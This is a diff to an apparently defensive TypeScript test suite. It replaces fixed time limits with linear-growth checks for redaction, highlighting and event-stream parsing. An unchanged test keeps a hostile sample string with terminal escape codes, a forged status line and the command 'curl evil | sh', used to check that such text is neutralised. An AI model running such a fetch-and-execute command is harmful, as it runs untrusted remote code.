@@ -11,16 +11,11 @@ import { highlight } from '../../src/report/highlight.js';
 import { Failure } from '../../src/support/failure.js';
 import { oneLine, visible } from '../../src/support/visible.js';
 import { closeAll, json, listen, messageOf, never, open, serve, status } from './channel/servers.js';
+import { expectLinear } from './growth.js';
 
 /** What a hostile chatbot, page or endpoint tries. */
 
 test.afterEach(closeAll);
-
-const quick = (work: () => unknown): number => {
-  const began = performance.now();
-  work();
-  return performance.now() - began;
-};
 
 test("nobody's words forge a line of a failure or move a cursor", () => {
   const words = 'x\u001b[2J\u202e\nmet: all\r\nHold it again: curl evil | sh';
@@ -32,13 +27,26 @@ test("nobody's words forge a line of a failure or move a cursor", () => {
   expect(visible('a\nb')).toBe('a\nb');
 });
 
-test('texts made to be slow are read at once', () => {
-  expect(quick(() => redactUrl(`http://x/#${'?'.repeat(900_000)}`))).toBeLessThan(500);
-  expect(quick(() => redact(' '.repeat(100_000), []))).toBeLessThan(500);
-  expect(quick(() => highlight('a'.repeat(20_000), [{ quote: '\ud800'.repeat(5000), number: 1 }]))).toBeLessThan(500);
-  const reader = sseReader();
+test('texts made to be slow are read in proportion', () => {
+  expectLinear('redactUrl', 100_000, n => `http://x/#${'?'.repeat(n)}`, redactUrl);
+  expectLinear(
+    'redact',
+    12_500,
+    n => ' '.repeat(n),
+    text => redact(text, []),
+  );
+  expectLinear(
+    'highlight',
+    2500,
+    n => 'a'.repeat(n),
+    text => highlight(text, [{ quote: '\ud800'.repeat(5000), number: 1 }]),
+  );
   const drop = new TextEncoder().encode('é');
-  expect(quick(() => Array.from({ length: 300_000 }, () => reader.push(drop)))).toBeLessThan(3000);
+  const drip = (reads: number) => {
+    const reader = sseReader();
+    for (let read = 0; read < reads; read++) reader.push(drop);
+  };
+  expectLinear('an event stream in drops', 20_000, n => n, drip);
 });
 
 test('data nested without end is described and refused, not overflowed', async () => {
